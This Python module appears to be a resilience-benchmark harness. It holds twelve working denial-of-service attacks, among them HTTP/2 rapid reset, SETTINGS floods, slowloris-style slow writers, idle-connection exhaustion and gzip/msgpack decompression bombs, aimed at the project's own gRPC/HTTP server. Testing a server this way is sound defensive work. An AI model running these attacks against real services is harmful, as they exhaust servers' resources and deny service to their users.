"""Attacks of one tenant, and of peers without a key, on a server: functions that attack until they are stopped.

`bench.hostile` runs each in a process of its own. An attack uses plain sockets and repeats what a red team did: it
never reads an answer that it does not need, and comes back when the server disconnects it.
"""

from __future__ import annotations

import gzip
import itertools
import json
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from typing import Final, NamedTuple

import msgspec
from hpack import Encoder

from headrace.grpc.transport import frames
from headrace.grpc.transport.frames import PREFACE, ErrorCode, frame
from headrace.grpc.transport.headers import encode_block

KIB: Final = 1024
MIB: Final = 1024 * KIB
PATH: Final = "/grpc.health.v1.Health/Check"
CALL: Final = {":method": "POST", ":scheme": "http", ":path": PATH, "content-type": "application/grpc"}
BLOCK: Final = encode_block(CALL)
GREETING: Final = PREFACE + frames.settings({})
SEND_S: Final = 0.5
"""Seconds that an attacker waits for the server to take its bytes, before it connects again."""
PAUSE_S: Final = 0.02
LARGE_BYTES: Final = 400 * KIB


class Target(NamedTuple):
    """A server, a key of the attacking tenant, and a batch of that tenant with large results."""

    host: str
    port: int
    key: str
    batch_id: str


@contextmanager
def connection(target: Target) -> Iterator[socket.socket]:
    """Open a connection to the server."""
    peer = socket.create_connection((target.host, target.port), timeout=SEND_S)
    try:
        yield peer
    finally:
        peer.close()


def repeated(target: Target, attack: Callable[[socket.socket], None]) -> None:
    """Repeat an attack on one connection after the other, for ever."""
    while True:
        with suppress(OSError), connection(target) as peer:
            attack(peer)
        time.sleep(PAUSE_S)


def call_numbers() -> Iterator[int]:
    """Yield the stream ids of a client."""
    return itertools.count(1, 2)


def send_until_refused(peer: socket.socket, pieces: Iterator[bytes]) -> None:
    """Send for as long as the server takes bytes; a server that takes none for a while is left connected, then left."""
    peer.sendall(GREETING)
    try:
        for piece in pieces:
            peer.sendall(piece)
    except TimeoutError:
        time.sleep(SEND_S)


def answers_unread(target: Target) -> None:
    """Make calls without a message, and read no answer."""

    def attack(peer: socket.socket) -> None:
        ends = frames.END_HEADERS | frames.END_STREAM
        calls = (frame(frames.HEADERS, ends, stream_id, BLOCK) for stream_id in call_numbers())
        send_until_refused(peer, (b"".join(itertools.islice(calls, 100)) for _ in itertools.count()))

    repeated(target, attack)


def settings_flood(target: Target) -> None:
    """Open 256 streams, then change their windows 2,730 times in each frame."""

    def attack(peer: socket.socket) -> None:
        opening = (frame(frames.HEADERS, frames.END_HEADERS, 2 * number + 1, BLOCK) for number in range(256))
        changes = frame(frames.SETTINGS, 0, 0, frames.SETTING.pack(frames.INITIAL_WINDOW_SIZE, 1_000) * 2_730)
        send_until_refused(peer, itertools.chain(opening, itertools.repeat(changes)))

    repeated(target, attack)


def rapid_reset(target: Target) -> None:
    """Open streams and reset each at once."""

    def attack(peer: socket.socket) -> None:
        calls = (
            frame(frames.HEADERS, frames.END_HEADERS, stream_id, BLOCK) + frames.rst_stream(stream_id, ErrorCode.CANCEL)
            for stream_id in call_numbers()
        )
        send_until_refused(peer, (b"".join(itertools.islice(calls, 100)) for _ in itertools.count()))

    repeated(target, attack)


def huffman_blocks(target: Target) -> None:
    """Send header blocks of 9 KiB of Huffman code."""
    value = "".join(map(chr, itertools.islice(itertools.cycle(range(0x21, 0x7F)), 7_000)))
    block: bytes = Encoder().encode([*CALL.items(), ("x-large", value)], huffman=True)

    def attack(peer: socket.socket) -> None:
        ends = frames.END_HEADERS | frames.END_STREAM
        send_until_refused(peer, (frame(frames.HEADERS, ends, stream_id, block) for stream_id in call_numbers()))

    repeated(target, attack)


def partial_messages(target: Target) -> None:
    """Keep large messages incomplete, on many connections, with some bytes now and then."""
    piece = b"x" * 16_384
    head = b"\0" + (50 * MIB).to_bytes(4, "big")
    while True:
        with ExitStack() as stack, suppress(OSError):
            peers = [stack.enter_context(connection(target)) for _ in range(8)]
            for peer in peers:
                peer.sendall(GREETING + frame(frames.HEADERS, frames.END_HEADERS, 1, BLOCK))
                peer.sendall(frame(frames.DATA, 0, 1, head))
            for _ in range(100):
                for peer in peers:
                    with suppress(TimeoutError):
                        peer.sendall(frame(frames.DATA, 0, 1, piece))
            time.sleep(SEND_S)
        time.sleep(PAUSE_S)


def request(
    target: Target, method: str, path: str, body: bytes = b"", headers: str = "", *, is_keyed: bool = False
) -> bytes:
    """Return the bytes of a request."""
    key = f"authorization: Bearer {target.key}\r\n" if is_keyed else ""
    head = f"{method} {path} HTTP/1.1\r\nhost: {target.host}\r\n{key}{headers}content-length: {len(body)}\r\n\r\n"
    return head.encode() + body


def ask(peer: socket.socket, data: bytes) -> None:
    """Send a request and wait for the first bytes of the answer."""
    peer.settimeout(30)
    peer.sendall(data)
    peer.recv(65_536)


def signed_addresses(target: Target) -> None:
    """Ask for payloads by addresses with an invented signature, each in another environment."""
    numbers = itertools.count()

    def attack(peer: socket.socket) -> None:
        while True:
            path = f"/api/packets/{f'tenant {next(numbers)}'.encode().hex()}/a?until=9999999999&signature=00"
            ask(peer, request(target, "GET", path))

    repeated(target, attack)


def metrics_flood(target: Target) -> None:
    """Read the metrics again and again, and leave before the answer."""

    def attack(peer: socket.socket) -> None:
        peer.sendall(request(target, "GET", "/metrics"))
        time.sleep(PAUSE_S)

    repeated(target, attack)


def idle_connections(target: Target) -> None:
    """Keep 1,100 connections that send nothing."""
    while True:
        with ExitStack() as stack:
            with suppress(OSError):
                for _ in range(1_100):
                    stack.enter_context(connection(target))
            time.sleep(5)


def large_results(target: Target) -> None:
    """Read a batch of large results on four connections at a time, slowly."""
    while True:
        with ExitStack() as stack, suppress(OSError):
            peers = [stack.enter_context(connection(target)) for _ in range(4)]
            path = f"/v1/batches/{target.batch_id}/results?from=0&wait=0"
            for peer in peers:
                peer.sendall(request(target, "GET", path, is_keyed=True))
            for _ in range(200):
                for peer in peers:
                    peer.recv(65_536)
                time.sleep(PAUSE_S)


def message_bomb(target: Target) -> None:
    """Send 210 KiB of gzip that decode to millions of objects."""
    bomb = msgspec.msgpack.encode({"new": {"id": "batch_x", "metadata": {"a": [[] for _ in range(20_000_000)]}}})
    data = request(
        target,
        "POST",
        "/v1/store/create_batch",
        gzip.compress(bomb),
        "content-type: application/x-msgpack\r\ncontent-encoding: gzip\r\n",
        is_keyed=True,
    )
    repeated(target, lambda peer: ask(peer, data))


def created(target: Target) -> str:
    """Create an open-ended batch; return its id."""
    with connection(target) as peer:
        peer.settimeout(30)
        peer.sendall(request(target, "POST", "/v1/batches", b"{}", "content-type: application/json\r\n", is_keyed=True))
        answer = b""
        while b"}" not in answer:
            answer += peer.recv(65_536)
        return str(json.loads(answer.partition(b"\r\n\r\n")[2])["id"])


def blank_lines(target: Target) -> None:
    """Stream compressed blank lines."""
    body = gzip.compress(b"\n" * (256 * MIB), 1)
    headers = "content-type: application/x-ndjson\r\ncontent-encoding: gzip\r\n"

    def attack(peer: socket.socket) -> None:
        ask(peer, request(target, "POST", f"/v1/batches/{created(target)}/items", body, headers, is_keyed=True))

    repeated(target, attack)


def slow_writers(target: Target) -> None:
    """Keep 300 streams of items open, each with a byte a second."""
    while True:
        with ExitStack() as stack, suppress(OSError):
            batch_id = created(target)
            peers = [stack.enter_context(connection(target)) for _ in range(300)]
            head = (
                f"POST /v1/batches/{batch_id}/items HTTP/1.1\r\nhost: {target.host}\r\n"
                f"authorization: Bearer {target.key}\r\n"
                "content-type: application/x-ndjson\r\ntransfer-encoding: chunked\r\n\r\n"
            )
            for peer in peers:
                peer.sendall(head.encode())
            for _ in range(30):
                for peer in peers:
                    with suppress(OSError):
                        peer.sendall(b"1\r\n \r\n")
                time.sleep(1)


ATTACKS: Final[dict[str, Callable[[Target], None]]] = {
    attack.__name__: attack
    for attack in (
        answers_unread,
        settings_flood,
        rapid_reset,
        huffman_blocks,
        partial_messages,
        signed_addresses,
        metrics_flood,
        idle_connections,
        large_results,
        message_bomb,
        blank_lines,
        slow_writers,
    )
}
